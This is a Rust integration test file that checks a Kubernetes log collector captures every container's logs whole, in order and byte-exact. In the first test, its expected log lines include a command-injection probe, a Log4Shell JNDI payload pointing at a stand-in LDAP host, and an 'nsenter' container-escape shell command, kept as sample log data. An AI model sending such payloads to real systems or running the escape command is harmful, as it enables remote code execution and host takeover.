//! The logs of every instance of every container, whatever their bytes are.

use base64::Engine as _;
use serde_json::Value;

use super::harness::{ADMIN, column, text};

fn rows(pod: &str, container: &str, restart_count: i64) -> Vec<Value> {
    let mut rows = ADMIN.rows_of("kubelogs_CL", &[("pod_name", pod), ("container_name", container)]);
    rows.retain(|row| row["restart_count"] == restart_count);
    rows
}

fn messages(pod: &str, container: &str) -> Vec<String> {
    rows(pod, container, 0).iter().map(|row| text(row, "message")).collect()
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn every_kind_of_container_has_its_log() {
    assert_eq!(messages("web-0", "migrate"), ["migrate line 1", "migrate line 2"]);
    assert_eq!(messages("web-0", "proxy"), ["proxy line 1"]);
    assert_eq!(messages("web-0", "dbg"), ["dbg line 1"]);
    assert_eq!(
        column(&rows("web-0", "web", 0), "message"),
        [
            r#"203.0.113.7 "GET / HTTP/1.1" 200"#,
            r#"203.0.113.7 "GET /?cmd=id HTTP/1.1" 200"#,
            r#"203.0.113.7 "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200"#,
            "web: upstream timed out",
        ]
    );
    assert_eq!(messages("kube-proxy-x7", "kube-proxy"), ["proxy line 1"]);
    assert_eq!(messages("init-privileged", "setup"), ["setup line 1"]);
    assert_eq!(messages("distroless", "service"), ["service line 1", "service line 2", "service line 3"]);
    assert_eq!(messages("web-debug", "shell"), ["nsenter -t 1 -m -u -i -n sh"]);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn pods_that_ended_have_theirs() {
    let report = ADMIN.rows_of("pods_CL", &[("owner_kind", "Job"), ("namespace", "shop")]);
    let pod = text(&report[0], "pod_name");
    assert_eq!(messages(&pod, "fetch"), ["fetch line 1"]);
    assert_eq!(messages(&pod, "report"), ["report line 1", "report line 2"]);
    assert_eq!(messages("finished", "finished"), ["finished line 1", "no newline"]);
    let last = rows("finished", "finished", 0).pop().unwrap();
    assert!(text(&last, "flags").contains("no_final_newline"), "{last}");
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn the_previous_instance_is_told_from_the_current_one() {
    let first = rows("restarted", "restarted", 0);
    assert_eq!(column(&first, "message"), ["first instance line 1", "first instance line 2"]);
    assert_eq!(column(&rows("restarted", "restarted", 1), "message"), ["second instance line 1"]);
    assert!(!ADMIN.rows_of("kubelogs_CL", &[("pod_name", "crashing")]).is_empty());
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn no_bytes_are_lost() {
    let rows = rows("odd", "odd", 0);
    let bytes = base64::engine::general_purpose::STANDARD.decode(text(&rows[0], "message_b64")).unwrap();
    assert_eq!(bytes, b"not \xff\xfe utf-8");
    assert!(text(&rows[0], "flags").contains("invalid_utf8"));
    let messages: Vec<_> = rows.iter().map(|row| text(row, "message")).collect();
    assert_eq!(messages[1], "nul \0 byte");
    assert_eq!(messages[2], "carriage\rreturn");
    assert_eq!(messages[3], "");
    assert_eq!(messages[4], "tab\tquote\"backslash\\ bell\u{7}");
    assert_eq!(messages[5], "a".repeat(20_000));
    let pieces = &messages[6..];
    assert!(pieces.concat() == "b".repeat(70_000), "a line over 60 KiB is several rows");
    assert!(pieces.len() > 1);
    let last: Vec<_> = rows[6..].iter().map(|row| row["chunk_last"] == true).collect();
    assert_eq!(last.iter().position(|last| *last), Some(pieces.len() - 1));
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn a_long_log_is_whole_and_in_order() {
    let expected =
        (1..=40_000).map(|line| format!("bulk line {line:06} of a service that says a lot about very little"));
    let found = messages("bulk", "bulk");
    assert_eq!(found.len(), 40_000);
    assert!(found.into_iter().eq(expected));
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn words_of_the_server_about_a_log_are_not_the_log() {
    for row in ADMIN.rows("kubelogs_CL") {
        let message = text(&row, "message");
        assert!(!message.contains("unable to retrieve container logs"), "{row}");
        assert!(!["pending", "no-image"].contains(&text(&row, "pod_name").as_str()), "{row}");
    }
}
